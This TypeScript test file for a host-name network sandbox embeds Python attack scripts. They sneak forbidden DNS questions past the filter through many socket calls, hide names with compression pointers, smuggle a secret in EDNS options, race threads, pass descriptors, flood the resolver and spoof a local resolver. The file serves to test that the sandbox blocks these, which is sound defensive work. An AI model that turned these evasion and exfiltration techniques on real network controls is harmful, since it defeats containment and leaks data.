/**
 * Attacks on names of hosts: whatever a program does with sockets, resolvers and messages, no question about a name that is not allowed
 * leaves, nothing of its own in a question that does, and no address is reached that no allowed name has.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { test } from 'node:test';

import { type Attack, attackNames, QUESTIONS } from '../network/name-attack.ts';
import { NEIGHBOUR, WORLD } from '../network/namespaces.ts';
import { inEtc, makeNamedNetwork, OTHER, sharedNamedNetwork } from '../network/resolver.ts';
import { who } from '../support/environment.ts';
import { engines, python } from '../support/escape.ts';
import { environment, run, secfiltWords } from '../support/run.ts';

const attack = (one: Omit<Attack, 'id'>): void => attackNames({ id: 'N44', ...one });

attack({
  title: 'an address without a look-up, another port of an allowed name',
  script: `
host = socket.getaddrinfo('allowed.example', 80, socket.AF_INET, socket.SOCK_STREAM)[0][4]
for place in (host, ('${WORLD}', 2222), ('${OTHER}', 80)):
    s = socket.socket(); tries(lambda: print(s.connect(place)))
for place in (('${WORLD}', 53), ('${OTHER}', 2222)): tries(lambda: udp().sendto(b'x', place))
`,
  legal: [/^tcp 203\.0\.113\.5 80$/],
  natively: /^tcp 203\.0\.113\.6 80$/,
});

attack({
  title: 'a forbidden question by every call that sends',
  script: `
bad = question('forbidden.example')
def unconnected(): udp().sendto(bad, RESOLVER)
def connected(): s = udp(); s.connect(RESOLVER); s.send(bad)
def written(): s = udp(); s.connect(RESOLVER); os.write(s.fileno(), bad)
def message(): udp().sendmsg([bad[:5], bad[5:]], [], 0, RESOLVER)
def held(): s = udp(); s.sendto(bad[:9], 0x8000, RESOLVER); s.sendto(bad[9:], RESOLVER)
def corked():
    s = udp(); s.connect(RESOLVER); s.setsockopt(17, 1, 1); s.send(bad[:9]); s.send(bad[9:]); s.setsockopt(17, 1, 0)
def mapped(): s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(bad, ('::ffff:' + RESOLVER[0], 53))
def stream(): s = socket.create_connection(RESOLVER, 5); s.sendall(struct.pack('!H', len(bad)) + bad); s.recv(512)
def pieces():
    s = socket.create_connection(RESOLVER, 5)
    for byte in struct.pack('!H', len(bad)) + bad: s.send(bytes([byte]))
    s.recv(512)
def fast(): s = socket.socket(); s.sendto(struct.pack('!H', len(bad)) + bad, 0x20000000, RESOLVER)
def again(): s = udp(); s.connect(('127.0.0.1', 0)); s.connect(RESOLVER); s.send(bad)
def spliced():
    s = udp(); s.connect(RESOLVER); r, w = os.pipe(); os.write(w, bad); libc.splice(r, None, s.fileno(), None, len(bad), 0)
tries(unconnected, connected, written, message, held, corked, mapped, stream, pieces, fast, again, spliced)
`,
  natively: /^question forbidden\.example 1 (?:udp|tcp)$/,
});

attack({
  title: 'a forbidden question that is hidden behind an allowed one',
  script: `
s = udp(); s.connect(RESOLVER)
for data in (question('allowed.example', counts=(2, 0, 0, 0), extra=labels('forbidden.example') + b'\\0\\1\\0\\1'),
             question(b'\\x11forbidden.example\\0'), question(b'\\x07allowed\\x07example\\xc0\\x0c'),
             question(b'\\x07allowed\\xc0\\x2d', extra=b'\\x07example\\0'), question('allowed.example.forbidden.example'),
             question('forbidden.example.'), question(b'\\x09forbidden\\x07eXample\\0'), question('forbidden.example', kind=255)):
    tries(lambda: s.send(data))
`,
  natively: /^question forbidden\.example/,
});

attack({
  title: 'words of its own in a question about an allowed name',
  script: `
secret = b'a secret that nobody is to get'
option = b'\\0' + struct.pack('!HHIHHH', 41, 1232, 0, len(secret) + 4, 65001, len(secret)) + secret
s = udp(); s.connect(RESOLVER)
print(code(ask(s, 'aLLOWed.eXample', extra=option, counts=(1, 0, 0, 1))))
print(code(ask(s, 'allowed.example', extra=secret)))
`,
  natively: /^question allowed\.example/,
  check: ({ stdout }, named) => {
    const secret = Buffer.from('a secret').toString('hex');
    assert.equal(stdout, '0\n0\n');
    const questions = named.questions();
    assert.equal(questions.length, 2);
    for (const bytes of questions) {
      assert.ok(!bytes.includes(secret), bytes);
      assert.ok(bytes.includes(Buffer.from('allowed').toString('hex')), 'the case is ours');
    }
  },
});

attack({
  title: 'a socket that was led to the resolver, used for all else',
  script: `
s = udp(); s.connect(RESOLVER); print(code(ask(s, 'allowed.example')))
tries(lambda: s.sendto(b'x', ('${OTHER}', 2222)), lambda: s.sendmsg([b'x'], [], 0, ('${OTHER}', 2222)))
def moved(): s.connect(('${OTHER}', 2222)); s.send(b'x')
def other(): t = socket.create_connection(RESOLVER, 5); t.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); t.settimeout(0.5); print(t.recv(512))
def child():
    if os.fork() == 0:
        s.send(question('forbidden.example')); os._exit(0)
    os.wait()
def passed():
    a, b = socket.socketpair()
    a.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [s.fileno()]))])
    _, control, _, _ = b.recvmsg(1, 64); t = socket.socket(fileno=array.array('i', control[0][2])[0]); t.send(question('forbidden.example'))
tries(other, child, passed, moved)
`,
  natively: /^udp 203\.0\.113\.6 2222$/,
});

attack({
  title: 'threads that race: where a socket is connected, what is sent',
  script: `
import time
bad, good = question('forbidden.example'), question('allowed.example')
s = udp(); s.connect(RESOLVER); address = ctypes.create_string_buffer(16); data = ctypes.create_string_buffer(len(bad)); over = time.monotonic() + 0.8
def flip():
    while time.monotonic() < over:
        address.raw = struct.pack('=H', 2) + struct.pack('!H', 53) + socket.inet_aton('${NEIGHBOUR}') + bytes(8); data.raw = good.ljust(len(bad), b'\\0')
        address.raw = struct.pack('=H', 2) + struct.pack('!H', 53) + socket.inet_aton('${OTHER}') + bytes(8); data.raw = bad
def connects():
    t = udp()
    while time.monotonic() < over: libc.connect(t.fileno(), address, 16); libc.send(t.fileno(), bad, len(bad), 0x40)
def sends():
    t = udp()
    while time.monotonic() < over: libc.sendto(t.fileno(), data, len(bad), 0x40, address, 16)
threads = [threading.Thread(target=one) for one in (flip, connects, sends)]
for one in threads: one.start()
for one in threads: one.join()
`,
  natively: /^question forbidden\.example/,
});

attack({
  title: 'messages that are none',
  script: `
import random
random.seed(7)
s = udp(); s.connect(RESOLVER)
for data in [b'', b'\\0', bytes(12), b'\\xff' * 12, b'\\xff' * 512, bytes(9000), question(b'\\xc0\\x0c'), question(b'\\x3f' * 4), question('allowed.example', counts=(65535, 65535, 65535, 65535)),
             question('allowed.example', extra=b'\\0\\0\\x29\\xff\\xff' + b'\\0' * 4 + b'\\xff\\xff', counts=(1, 0, 0, 1))] + [random.randbytes(random.randrange(600)) for _ in range(500)]:
    tries(lambda: s.send(data))
def flood():
    t = socket.create_connection(RESOLVER, 0.5)
    for _ in range(40): t.sendall(b'\\xff\\xff' + bytes(60000))
def many(): held = [socket.create_connection(RESOLVER, 0.7) for _ in range(200)]
tries(flood, many)
s = udp(); s.connect(RESOLVER); tries(lambda: s.send(question('forbidden.example')))
print(code(ask(udp_again(), 'allowed.example')))
`.replace('udp_again()', '(lambda t: (t.connect(RESOLVER), t)[1])(udp())'),
  natively: /^question forbidden\.example/,
  check: ({ stdout, stderr }) => assert.match(stdout, /^0$/m, `it goes on: ${stdout} ${stderr}`),
});

void test(`N44 a program that answers in a resolver's place, where that is on this host (${who})`, async (t) => {
  const named = await makeNamedNetwork(t);
  if (named === undefined) return;
  for (const resolver of ['127.0.0.1', '192.168.1.1', '::1']) {
    inEtc(named.network, 'resolv.conf', `nameserver ${resolver}\noptions timeout:1 attempts:1\n`);
    // A connection that was accepted is answered without an address that anybody could judge.
    const words = python(`${QUESTIONS}
def reply(data):
    end = data.index(0, 12) + 5
    return data[:2] + struct.pack('!HHHHH', 0x8180, 1, 1, 0, 0) + data[12:end] + b'\\xc0\\x0c' + struct.pack('!HHIH', 1, 1, 60, 4) + socket.inet_aton('${OTHER}')
def serve(s):
    while True: data, peer = s.recvfrom(512); s.sendto(reply(data), peer)
def listen(s):
    while True: c, _ = s.accept(); data = reply(c.recv(512)[2:]); c.sendall(struct.pack('!H', len(data)) + data)
for family, places in ((socket.AF_INET, ('${resolver}', '')), (socket.AF_INET6, ('::ffff:${resolver}', '${resolver}', '::'))):
    for place in places:
        for kind, start in ((socket.SOCK_DGRAM, serve), (socket.SOCK_STREAM, listen)):
            s = socket.socket(family, kind)
            for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): tries(lambda: s.setsockopt(1, option, 1))
            try:
                s.bind((place, 53))
                if kind == socket.SOCK_STREAM: s.listen()
                threading.Thread(target=start, args=(s,), daemon=True).start(); print('bound', place)
            except OSError as error: pass
def asks():
    s = socket.create_connection(('${resolver}', 53), 5); bytes = question('allowed.example'); s.sendall(struct.pack('!H', len(bytes)) + bytes); print(s.recv(512))
tries(asks, lambda: socket.getaddrinfo('allowed.example', 80), lambda: socket.create_connection(('${OTHER}', 80), 5))
`);
    await run([...named.network.inside, ...words]);
    assert.deepEqual(await named.arrived(), [`tcp ${OTHER} 80`], 'it works natively');
    for (const engine of engines) {
      const options = ['--quiet', ...engine.options, '--allowed-hosts=allowed.example'];
      const { stdout } = await run([...named.network.inside, ...secfiltWords([...options, '--', ...words])]);
      assert.deepEqual(await named.arrived(), [], `${resolver} ${stdout}`);
    }
  }
});

void test(`N44 a stub answers nobody but its own sandbox (${who})`, async (t) => {
  const named = await sharedNamedNetwork(t);
  if (named === undefined) return;
  for (const engine of engines) {
    // Where it was led to is read in the kernel's own table.
    const script = `${QUESTIONS}
s = udp(); s.connect(RESOLVER); ask(s, 'allowed.example')
own = '%04X' % s.getsockname()[1]
print(s.getpeername(), next(int(line.split()[2].split(':')[1], 16) for line in open('/proc/net/udp') if line.split()[1].endswith(':' + own)), flush=True)
sys.stdin.read()
`;
    const words = secfiltWords([
      '--quiet',
      ...engine.options,
      '--allowed-hosts=allowed.example',
      '--',
      ...python(script),
    ]);
    const [file = '', ...rest] = [...named.network.inside, ...words];
    const child = spawn(file, rest, { stdio: ['pipe', 'pipe', 'inherit'], env: environment() });
    t.after(() => void child.kill('SIGKILL'));
    const line = await new Promise<string>((resolve) => {
      let said = '';
      child.stdout.on('data', (data: Buffer) => {
        said += data.toString('latin1');
        if (said.includes('\n')) resolve(said);
      });
    });
    const [, port] = /^\('192\.168\.1\.2', 53\) (\d+)$/m.exec(line) ?? [];
    assert.ok(port !== undefined, line);
    await named.arrived();
    const stranger = python(`${QUESTIONS}
s = udp(); s.settimeout(0.4); s.connect(('127.0.0.1', ${port}))
try: print('answered', ask(s, 'allowed.example'))
except OSError as error: print('silent')
`);
    const alone = await run([...named.network.inside, ...stranger]);
    assert.equal(alone.stdout, 'silent\n', alone.stderr);
    const options = ['--allowed-netmasks=127.0.0.0/8'];
    const other = await run([
      ...named.network.inside,
      ...secfiltWords(['--quiet', ...engine.options, ...options, '--', ...stranger]),
    ]);
    assert.equal(other.stdout, 'silent\n', other.stderr);
    assert.deepEqual(await named.arrived(), []);
    child.stdin.end();
    await closed(child);
  }
});

function closed(child: ReturnType<typeof spawn>): Promise<void> {
  return new Promise((resolve) => {
    if (child.exitCode !== null) resolve();
    else child.once('exit', () => resolve());
  });
}
